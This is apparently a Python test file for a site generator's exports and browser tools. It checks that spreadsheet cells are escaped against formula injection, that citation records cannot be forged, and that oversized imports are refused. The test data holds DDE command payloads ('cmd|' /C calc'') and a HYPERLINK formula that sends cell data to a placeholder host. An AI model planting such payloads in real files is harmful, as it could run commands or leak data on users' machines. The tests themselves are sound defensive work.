"""The battery's cases for what the site exports and what its tools import (see battery.py).

Exports: spreadsheet cells that a spreadsheet could run as formulas (OWASP's "CSV Injection") in the
policy grid's xlsx and CSV, the open data's CSVs and the self-review's CSV; records forged in the RIS
and BibTeX files by a line break or a brace. Imports: the board and the self-review refuse a file
larger than they can keep before anything is written, and say so when the browser cannot save, with
what was saved before kept. The fixture has neither a policy grid, open data nor the tools: each case
adds what it needs to its copy of the project (see :func:`with_grid`, :func:`with_tools`)."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import openpyxl
import rispy

from battery import Case, append, both, mcframe, parametrize, replace, run_case

SITE = "content/site.yaml"
META = "    sources: [ref-handbook]\n    wording: {kind: editorial}\n    review: {status: published, date: 2026-01-01}\n"


def q(text: str) -> str:
    """A YAML scalar holding exactly ``text`` (a JSON string is a YAML double-quoted one)."""
    return json.dumps(text, ensure_ascii=False)


def add_collections(yaml: str) -> Callable[[Path], None]:
    return replace(SITE, "\npages:\n", "\n" + yaml + "\npages:\n")


def add_pages(yaml: str) -> Callable[[Path], None]:
    def damage(project: Path) -> None:
        site = project / SITE
        site.write_text(site.read_text(encoding="utf-8") + yaml, encoding="utf-8")

    return damage


def add_file(path: str, text: str) -> Callable[[Path], None]:
    def damage(project: Path) -> None:
        (project / path).write_text(text, encoding="utf-8")

    return damage


# --- The policy grid (xlsx and CSV) -------------------------------------------------------------

GRID_XLSX, GRID_CSV = "site/downloads/grid.xlsx", "site/downloads/grid.csv"


def with_grid(name: str = "Bench induction", who: str = "Apprentices", what: str = "Bench work", abbreviation: str = "WB") -> Callable[[Path], None]:
    """Damage: the fixture gains an agency, a programme and the policy grid's page with both downloads."""
    collections = (
        '  - name: agencies\n    kind: agency\n    file: grid.yaml\n    key: agencies\n    id_pattern: "[A-Z]+"\n    label: agency\n    plural: Agencies\n'
        '  - name: programmes\n    kind: programme\n    file: grid.yaml\n    key: programmes\n    id_pattern: "PG[0-9]+"\n    label: programme\n'
        "    plural: Programmes\n"
    )
    page = (
        "  - id: grid\n    path: grid.md\n    title: Policy grid\n    template: policy_grid.md.j2\n    lists: [programmes, agencies]\n    downloads:\n"
        "      - {export: policy-grid-xlsx, path: downloads/grid.xlsx, label: spreadsheet}\n"
        "      - {export: policy-grid-csv, path: downloads/grid.csv, label: CSV}\n"
    )
    grid = (
        f"agencies:\n  - id: WB\n    name: Workshop Board\n    abbreviation: {q(abbreviation)}\n    description: The board.\n{META}"
        f"programmes:\n  - id: PG01\n    agency: WB\n    name: {q(name)}\n    who: {q(who)}\n    what: {q(what)}\n{META}"
    )
    return both(add_collections(collections), add_pages(page), add_file("content/grid.yaml", grid))


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def xlsx_cells(path: Path) -> list[Any]:
    """Every cell of every sheet of a workbook, as openpyxl reads it back."""
    wb = openpyxl.load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def no_formula_in(path: Path) -> None:
    """An xlsx holds no formula: no <f> element in any sheet, no cell openpyxl reads as one."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", zf.read(name)), f"a formula in {name}"
    assert all(c.data_type != "f" for c in xlsx_cells(path))


def text_in_xlsx(path: Path, text: str) -> None:
    """The text is in the workbook as it was written, a string cell marked as text (quotePrefix)."""
    found = [c for c in xlsx_cells(path) if c.value == text]
    assert found, f"{text!r} not in {path.name}"
    assert all(c.data_type == "s" and c.quotePrefix for c in found), [(c.coordinate, c.data_type, c.quotePrefix) for c in found]


def grid_safe(*texts: str) -> Callable[[Path], None]:
    """Check: each text is in the CSV as one cell with a single quote before it, and in the xlsx as
    text, never a formula."""

    def check(project: Path) -> None:
        cells = [c for row in csv_rows(project / GRID_CSV) for c in row]
        for text in texts:
            assert "'" + text in cells, f"{text!r}: {cells}"
            assert text not in cells
            text_in_xlsx(project / GRID_XLSX, text)
        no_formula_in(project / GRID_XLSX)
        raw = (project / GRID_CSV).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw

    return check


def grid_sheets(project: Path) -> None:
    """Check: a sheet per agency, its name within Excel's rules, the abbreviation intact in the cells."""
    wb = openpyxl.load_workbook(project / GRID_XLSX)
    assert len(wb.sheetnames) == 2 and not re.search(r"[\\/*?:\[\]]", wb.sheetnames[1]), wb.sheetnames
    assert [c.value for c in wb.worksheets[1][2][:2]] == ["PG01", "A/B: [C]*?"]
    assert csv_rows(project / GRID_CSV)[1][1] == "A/B: [C]*?"


def error_code_as_text(project: Path) -> None:
    cells = [c for c in xlsx_cells(project / GRID_XLSX) if c.value == "#DIV/0!"]
    assert cells and all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells]


# --- Open data (CSV) ----------------------------------------------------------------------------

OPEN_DATA = replace(SITE, "    lists: [sources]\n", "    lists: [sources]\n    downloads:\n      - {export: open-data, path: data, label: open data}\n")


def data_cell(collection: str, element: str, column: str) -> Callable[[Path], str]:
    def read(project: Path) -> str:
        rows = csv_rows(project / f"site/data/{collection}.csv")
        head = rows[0]
        row = next(r for r in rows[1:] if r[0] == element)
        return row[head.index(column)]

    return read


def data_is(read: Callable[[Path], str], expected: str, raw: bytes | None = None, file: str | None = None) -> Callable[[Path], None]:
    """Check: one open-data cell reads back as ``expected`` (and the file holds ``raw`` as written)."""

    def check(project: Path) -> None:
        assert read(project) == expected, read(project)
        if raw is not None and file is not None:
            assert raw in (project / "site/data" / file).read_bytes()
        data = json.loads((project / "site/data/all.json").read_text(encoding="utf-8"))
        assert data["collections"]  # the JSON keeps the data as it is (only spreadsheet cells are marked)

    return check


# --- RIS and BibTeX -----------------------------------------------------------------------------

FORGED_RIS = "Demonstration\nER  - \r\nTY  - JOUR\r\nTI  - A forged record\nID  - forged"


def ris_records(project: Path) -> list[dict[str, Any]]:
    text = (project / "site/cite/edition.ris").read_text(encoding="utf-8")
    assert not re.search(r"(?m)^TY  - JOUR", text), "a forged record"
    assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in text.splitlines() if line), "a line that is no tag"
    records: list[dict[str, Any]] = rispy.loads(text)
    return records


def ris_holds(count: int, title_part: str) -> Callable[[Path], None]:
    """Check: the edition's RIS file has its ``count`` records (the fixture's, none forged), each read
    back by rispy, and the damaged text is one title on one line."""

    def check(project: Path) -> None:
        records = ris_records(project)
        assert len(records) == count, [r.get("id") for r in records]
        assert any(title_part in str(r.get("title", "")) + str(r.get("secondary_title", "")) + str(r.get("authors", "")) for r in records)

    return check


def bib_entries(project: Path) -> dict[str, dict[str, str]]:
    """The edition's BibTeX read by two parsers: bibtexparser (pinned), and pybtex, which counts braces
    as BibTeX does (a ``\\}`` closes a field for it)."""
    from bibtexparser.entrypoint import parse_string as parse_loosely
    from pybtex.database import parse_string

    text = (project / "site/cite/edition.bib").read_text(encoding="utf-8")
    strict = parse_string(text, "bibtex")
    loose = parse_loosely(text)
    assert not loose.failed_blocks and len(loose.entries) == len(strict.entries)
    out: dict[str, dict[str, str]] = {}
    for key, entry in strict.entries.items():
        out[key] = {k.lower(): str(v) for k, v in entry.fields.items()}
        out[key].update({role: " and ".join(str(p) for p in persons) for role, persons in entry.persons.items()})  # pybtex keeps names apart
    return out


def bib_holds(count: int, key: str, title: str) -> Callable[[Path], None]:
    def check(project: Path) -> None:
        entries = bib_entries(project)
        assert len(entries) == count, list(entries)
        fields = entries[key]
        assert set(fields) == {"title", "author", "year", "month", "organization", "howpublished", "edition", "note"}, set(fields)
        assert fields["title"] == title, fields["title"]

    return check


# The fixture's references: one per element with an ID and per page, and the edition's.
FIXTURE_REFERENCES = 16


# --- The tools (board and self-review) in Chromium ------------------------------------------------

TOOLS_COLLECTIONS = """\
  - name: indicator_areas
    kind: indicator_area
    file: indicators.yaml
    key: areas
    id_pattern: "IA[0-9]+"
    label: area
    plural: Areas
  - name: questions
    kind: question
    file: indicators.yaml
    key: questions
    id_pattern: "Q[0-9]+"
    label: question
    plural: Questions
  - name: activities
    kind: activity
    file: activities.yaml
    key: activities
    id_pattern: "A[0-9]+"
    label: activity
    plural: Activities
values:
  stage:
    getting-aware: Getting aware
    getting-ready: Getting ready
    getting-started: Getting started
    getting-better: Getting better
    keep-improving: Keep improving
  audience:
    own: Review our own provision
"""
TOOLS_PAGES = """\
  - id: indicators
    path: indicators.md
    title: Self-review
    template: indicators.md.j2
    lists: [indicator_areas, questions]
  - id: circles
    path: circles.md
    title: Circles
    template: circles.md.j2
    lists: [activities]
"""
INDICATORS = f"""\
areas:
  - id: IA1
    title: Fit
    summary: Whether the supervision fits the apprentice.
    stages: {{getting_aware: a, getting_ready: b, getting_started: c, getting_better: d, keep_improving: e}}
{META}questions:
  - id: Q1
    area: IA1
    text: Does it fit?
    audiences: [own]
    concepts: [K1]
{META}"""
ACTIVITIES = f"""\
activities:
  - id: A1
    title: Watching at the bench
    circles: [K1]
    reason: It is how one starts.
{META}  - id: A2
    title: Talking it over
    circles: [K1, K2]
    reason: Both ideas meet here.
{META}"""
# A third key idea: the circles are drawn for three (with two, the board lists their overlap twice).
THIRD_IDEA = """\
  - id: K3
    title: Reflection
    summary: The apprentice says what went well.
    definition: Reflection looks back on an attempt.
    features: [Spoken]
    sources: [ref-handbook]
    wording: {kind: summary, source: ref-handbook}
    review: {status: published, date: 2026-01-15}
"""
with_tools = both(
    add_collections(TOOLS_COLLECTIONS),
    add_pages(TOOLS_PAGES),
    add_file("content/indicators.yaml", INDICATORS),
    add_file("content/activities.yaml", ACTIVITIES),
    append("content/ideas.yaml", THIRD_IDEA),
)

LIMIT_KB = 256  # what the tools import at most (selfreview.js, circlesboard.js: IMPORT_LIMIT)
FULL = "() => { Storage.prototype.setItem = function () { throw new DOMException('The quota has been exceeded.', 'QuotaExceededError'); }; }"


def labels() -> dict[str, str]:
    import yaml

    from conftest import ROOT

    found: dict[str, str] = yaml.safe_load((ROOT / "src/mcframe/labels.yaml").read_text(encoding="utf-8"))
    return found


def said(key: str, **values: str | int) -> str:
    text = labels()[key]
    for name, value in values.items():
        text = text.replace("{" + name + "}", str(value))
    return text


def in_chromium(project: Path, work: Callable[[Any, Path], None], setup: Callable[[Path], None] = with_tools) -> None:
    """Build the project with the tools (or another ``setup``) and hand ``work`` a Chromium and the
    built site. Playwright's synchronous API runs in a thread of its own, so that a browser the test
    session already holds open does not stand in its way."""
    setup(project)
    result = mcframe(project, "build", 120)
    assert result.returncode == 0, result.stdout + result.stderr
    site = project / "site"

    def session() -> None:
        import os

        from playwright.sync_api import sync_playwright

        executable = os.environ.get("MCFRAME_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=executable, args=["--no-sandbox", "--disable-gpu", "--no-first-run"])
            try:
                work(browser, site)
            finally:
                browser.close()

    with ThreadPoolExecutor(1) as pool:
        pool.submit(session).result()


def open_tool(browser: Any, site: Path, page_path: str) -> tuple[Any, Any]:
    from pageprobe import Probe

    probe, page = Probe.tool(browser, site, page_path)
    return probe, page


def status_says(page: Any, selector: str, text: str) -> None:
    """The tool's status line (role=status, aria-live) comes to say ``text``."""
    try:
        page.wait_for_function("([s, t]) => document.querySelector(s).textContent === t", arg=[selector, text], timeout=5000)
    except Exception:
        raise AssertionError(f"the status says {page.locator(selector).inner_text()!r}, not {text!r}") from None


REVIEW_STATUS, BOARD_STATUS = "[data-mcf-review-status]", "[data-mcf-board-status]"


def review_file(folder: Path, name: str, note: str) -> Path:
    path = folder / f"{name}.json"
    path.write_text(json.dumps({"format": "mcframe-self-review", "edition": "3", "name": name, "ratings": {}, "notes": {"IA1": note}, "answers": {}}))
    return path


def board_file(folder: Path, name: str, text: str) -> Path:
    path = folder / f"{name}.json"
    path.write_text(json.dumps({"format": "mcframe-activity-board", "edition": "3", "name": name, "cards": [{"text": text, "region": "K1"}]}))
    return path


def review_import_too_big(project: Path) -> None:
    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "indicators.html")
        page.locator('[data-notes="IA1"]').fill("Kept note.")
        big = review_file(project, "Huge", "x" * (LIMIT_KB * 1024 + 10))
        page.locator("#mcf-review-import").set_input_files(str(big))
        status_says(page, REVIEW_STATUS, said("review_say_too_big", size=LIMIT_KB + 1, limit=LIMIT_KB))
        assert page.locator("#mcf-review-select option").count() == 1
        page.reload()
        assert page.locator('[data-notes="IA1"]').input_value() == "Kept note."
        assert page.locator("#mcf-review-select option").all_inner_texts() == [said("review_say_default_name")]
        probe.close()

    in_chromium(project, work)


def review_import_beyond_storage(project: Path) -> None:
    """A file larger than the browser's whole storage (about 5 MB): refused by its size, unread."""

    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "indicators.html")
        page.locator('[data-notes="IA1"]').fill("Kept note.")
        big = review_file(project, "Huge", "x" * (6 * 1024 * 1024))
        page.locator("#mcf-review-import").set_input_files(str(big))
        status_says(page, REVIEW_STATUS, said("review_say_too_big", size=(big.stat().st_size + 1023) // 1024, limit=LIMIT_KB))
        page.locator('[data-notes="IA1"]').fill("Kept note, and a later edit.")  # later edits are kept, not lost
        page.reload()
        assert page.locator('[data-notes="IA1"]').input_value() == "Kept note, and a later edit."
        assert page.locator("#mcf-review-select option").count() == 1
        probe.close()

    in_chromium(project, work)


def review_save_fails(project: Path) -> None:
    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "indicators.html")
        page.locator('[data-notes="IA1"]').fill("Kept note.")
        page.evaluate(FULL)
        page.locator('[data-notes="IA1"]').fill("Kept note, and a change the browser cannot keep.")
        status_says(page, REVIEW_STATUS, said("review_say_not_saved"))
        page.locator('fieldset[data-area="IA1"] input[value="getting-started"]').check()
        status_says(page, REVIEW_STATUS, said("review_say_not_saved"))  # never "Saved" when it was not
        page.reload()
        assert page.locator('[data-notes="IA1"]').input_value() == "Kept note."
        assert not page.locator('fieldset[data-area="IA1"] input[value="getting-started"]').is_checked()
        probe.close()

    in_chromium(project, work)


def review_import_not_kept(project: Path) -> None:
    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "indicators.html")
        page.locator('[data-notes="IA1"]').fill("Kept note.")
        page.evaluate(FULL)
        page.locator("#mcf-review-import").set_input_files(str(review_file(project, "Autumn", "From a file.")))
        status_says(page, REVIEW_STATUS, said("review_say_not_kept", name="Autumn"))
        assert page.locator("#mcf-review-select option").all_inner_texts() == [said("review_say_default_name")]  # undone on screen too
        assert page.locator('[data-notes="IA1"]').input_value() == "Kept note."
        page.reload()
        assert page.locator("#mcf-review-select option").count() == 1
        probe.close()

    in_chromium(project, work)


def board_cards(page: Any) -> list[str]:
    texts: list[str] = page.locator(".mcf-board__text").all_inner_texts()
    return texts


def board_import_too_big(project: Path) -> None:
    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "circles.html")
        page.locator("#mcf-card-text").fill("Kept card")
        page.locator("[data-board=add]").click()
        big = board_file(project, "Huge", "x" * (LIMIT_KB * 1024 + 10))
        page.locator("#mcf-board-import").set_input_files(str(big))
        status_says(page, BOARD_STATUS, said("board_say_too_big", size=LIMIT_KB + 1, limit=LIMIT_KB))
        assert page.locator("#mcf-board-select option").count() == 1
        page.reload()
        assert board_cards(page) == ["Kept card"] and page.locator("#mcf-board-select option").count() == 1
        probe.close()

    in_chromium(project, work)


def board_save_fails(project: Path) -> None:
    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "circles.html")
        page.locator("#mcf-card-text").fill("Kept card")
        page.locator("[data-board=add]").click()
        page.evaluate(FULL)
        page.locator("#mcf-card-text").fill("A card the browser cannot keep")
        page.locator("[data-board=add]").click()
        status_says(page, BOARD_STATUS, said("board_say_not_saved"))
        page.locator("select[data-move]").first.select_option("K1+K2")
        status_says(page, BOARD_STATUS, said("board_say_not_saved"))
        page.reload()
        assert board_cards(page) == ["Kept card"]
        probe.close()

    in_chromium(project, work)


def board_import_not_kept(project: Path) -> None:
    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "circles.html")
        page.locator("#mcf-card-text").fill("Kept card")
        page.locator("[data-board=add]").click()
        page.evaluate(FULL)
        page.locator("#mcf-board-import").set_input_files(str(board_file(project, "Spring", "From a file")))
        status_says(page, BOARD_STATUS, said("board_say_not_kept", name="Spring"))
        assert board_cards(page) == ["Kept card"] and page.locator("#mcf-board-select option").count() == 1
        page.reload()
        assert board_cards(page) == ["Kept card"] and page.locator("#mcf-board-select option").count() == 1
        probe.close()

    in_chromium(project, work)


def review_csv_safe(project: Path) -> None:
    """The self-review's CSV export: what a school typed is marked as text where a spreadsheet would
    run it, and a semicolon (a French spreadsheet's separator) stays inside its cell."""

    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "indicators.html")
        note, answer = '=HYPERLINK("https://example.invalid/?"&A1;"Click")', "@SUM(1+1)*cmd|' /C calc'!A0"
        page.locator('[data-notes="IA1"]').fill(note)
        page.locator('[data-answer="Q1"]').fill(answer)
        with page.expect_download() as got:
            page.locator("[data-action=export-csv]").click()
        saved = project / "review.csv"
        got.value.save_as(saved)
        raw = saved.read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(raw, newline="")))
        assert ["area", "IA1", "Fit", "", "'" + note] in rows, rows
        assert ["question", "Q1", "", "", "'" + answer] in rows, rows
        for line in raw.splitlines()[1:]:
            for cell in line.split(";"):  # as a spreadsheet splitting on semicolons would
                assert not cell.lstrip(' "').startswith(("=", "+", "-", "@")), line
        probe.close()

    in_chromium(project, work)


def edition_record(site: Path, key: str, ext: str) -> str:
    """One reference's record in the whole edition's file of that format, exactly as written."""
    with open(site / f"cite/edition.{ext}", encoding="utf-8", newline="") as f:
        text = f.read()
    if ext == "ris":
        return next(r + "ER  - \r\n" for r in text.split("ER  - \r\n") if f"ID  - {key}\r\n" in r)
    return next(r for r in re.split(r"(?=^@misc\{)", text, flags=re.M) if r.startswith(f"@misc{{{key},")).rstrip("\n") + "\n"


def browser_citations_equal_the_editions(project: Path) -> None:
    """cite.js makes a page's RIS and BibTeX in the browser: for a title with line breaks and braces,
    byte for byte the safe records the build wrote into the edition's files."""

    def work(browser: Any, site: Path) -> None:
        probe, page = open_tool(browser, site, "ideas/k1.html")
        line = page.locator(f'[data-mcf-cite="{K1}"]')
        line.evaluate("el => { const d = el.closest('details'); if (d) d.open = true; }")
        for ext in ("ris", "bib"):
            with page.expect_download() as info:
                line.locator(f'button[data-format="{ext}"]').click()
            with open(info.value.path(), encoding="utf-8", newline="") as f:
                assert f.read() == edition_record(site, K1, ext), ext
        probe.close()

    in_chromium(project, work, setup=k1_title('"Demo\\r\\nER  - \\nTY  - JOUR\\u2028} \\\\{"'))


def nothing(project: Path) -> None:
    """No damage: a case that does its own (run=...)."""


def k1_title(text: str) -> Callable[[Path], None]:
    """Damage: the first key idea's title, as YAML."""
    return replace("content/ideas.yaml", "title: Demonstration", f"title: {text}")


CHISEL = "A tool with a sharp edge for cutting wood. No page of the fixture uses the word, on purpose."
R, K1 = FIXTURE_REFERENCES, "concepts-K1"
BRACES = "\\textbraceleft{}\\textbackslash{}\\textbraceright{} \\textbraceright{}\\textbraceleft{} \\textbackslash{} (key idea K1)"

CASES = [
    # The policy grid: xlsx and CSV.
    Case(
        "a formula in a programme's name",
        "exports",
        with_grid(name='=HYPERLINK("https://example.invalid/?q="&A1,"Click")'),
        check=grid_safe('=HYPERLINK("https://example.invalid/?q="&A1,"Click")'),
    ),
    Case("a DDE command in a programme's who", "exports", with_grid(who="=cmd|' /C calc'!A0"), check=grid_safe("=cmd|' /C calc'!A0")),
    Case(
        "+, - and @ starting cells of the grid",
        "exports",
        with_grid(name="+1+cmd|' /C calc'!A0", who="-2+3", what="@SUM(1+1)"),
        check=grid_safe("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"),
    ),
    Case("a tab, then a formula, in the grid's CSV", "exports", with_grid(what="\t=1+2"), check=grid_safe("\t=1+2")),
    Case("a formula after spaces and a quote mark", "exports", with_grid(name=' "=1+2'), check=grid_safe(' "=1+2')),
    Case(
        "a formula in the grid's column heading (site.yaml's labels)",
        "exports",
        both(with_grid(), replace(SITE, "labels:\n", 'labels:\n  grid_col_programme: "=1+2"\n')),
        check=grid_safe("=1+2"),
    ),
    Case("an agency whose abbreviation no sheet name may hold", "exports", with_grid(abbreviation="A/B: [C]*?"), check=grid_sheets),
    Case("an error code as a programme's name", "exports", with_grid(name="#DIV/0!"), check=error_code_as_text),
    # Open data: CSV.
    Case(
        "a formula in a term's definition (open data)",
        "exports",
        both(OPEN_DATA, replace("content/glossary/chisel.yaml", "definition: A tool", "definition: =1+2 A tool")),
        check=data_is(data_cell("terms", "chisel", "definition"), "'=1+2 " + CHISEL),
    ),
    Case(
        "'-2' as text in the open data",
        "exports",
        both(OPEN_DATA, replace("content/references.yaml", "    year: 2025\n", '    year: 2025\n    volume: "-2"\n')),
        check=data_is(data_cell("sources", "ref-handbook", "volume"), "'-2"),
    ),
    Case(
        "-2 as a number in the open data stays a number",
        "exports",
        both(OPEN_DATA, replace("content/references.yaml", "year: 2025", "year: -2")),
        check=data_is(data_cell("sources", "ref-handbook", "year"), "-2", raw=b",-2,", file="sources.csv"),
    ),
    Case(
        "a list whose first value starts a formula (open data)",
        "exports",
        both(OPEN_DATA, replace("content/ideas.yaml", "features: [Slow, Named steps]", 'features: ["@cmd", Slow]')),
        check=data_is(data_cell("concepts", "K1", "features"), "'@cmd | Slow"),
    ),
    # Citations: RIS and BibTeX.
    Case(
        "a line break in a title forges an RIS record",
        "exports",
        k1_title(q(FORGED_RIS)),
        check=ris_holds(R, "Demonstration ER  -  TY  - JOUR TI  - A forged record ID  - forged"),
    ),
    Case(
        "a line break in the publisher, the author of every reference",
        "exports",
        replace(SITE, "publisher: The fixture editors", 'publisher: "The fixture editors\\r\\nER  - "'),
        check=ris_holds(R, "The fixture editors ER  -"),
    ),
    Case(
        "a Unicode line separator in a title", "exports", k1_title('"Demon\\u2028TY  - JOUR\\u2029stration"'), check=ris_holds(R, "Demon TY  - JOUR stration")
    ),
    Case(
        "a closing brace in a title ends a BibTeX field early",
        "exports",
        k1_title('"Demo}, forged = {x"'),
        check=bib_holds(R, K1, "Demo\\textbraceright{}, forged = \\textbraceleft{}x (key idea K1)"),
    ),
    Case("braces and a backslash in a title, BibTeX", "exports", k1_title('"{\\\\} }{ \\\\"'), check=bib_holds(R, K1, BRACES)),
    Case(
        "a line break in a title, BibTeX",
        "exports",
        k1_title('"Demo\\n@misc{forged,\\n title = {x}"'),
        check=bib_holds(R, K1, "Demo @misc\\textbraceleft{}forged, title = \\textbraceleft{}x\\textbraceright{} (key idea K1)"),
    ),
    Case("the browser's RIS and BibTeX of a damaged title", "exports", nothing, run=browser_citations_equal_the_editions),
    # The tools: the self-review's CSV export; imports and saves in the board and the self-review.
    Case("a formula in the self-review's notes, exported as CSV", "exports", nothing, run=review_csv_safe),
    Case("self-review: an import over the limit", "tools' imports", nothing, run=review_import_too_big),
    Case("self-review: an import larger than the browser's storage", "tools' imports", nothing, run=review_import_beyond_storage),
    Case("self-review: a save the browser refuses", "tools' imports", nothing, run=review_save_fails),
    Case("self-review: an import the browser cannot keep", "tools' imports", nothing, run=review_import_not_kept),
    Case("board: an import over the limit", "tools' imports", nothing, run=board_import_too_big),
    Case("board: a save the browser refuses", "tools' imports", nothing, run=board_save_fails),
    Case("board: an import the browser cannot keep", "tools' imports", nothing, run=board_import_not_kept),
]


@parametrize(CASES)
def test_case(case: Case, tmp_path: Path) -> None:
    run_case(case, tmp_path)
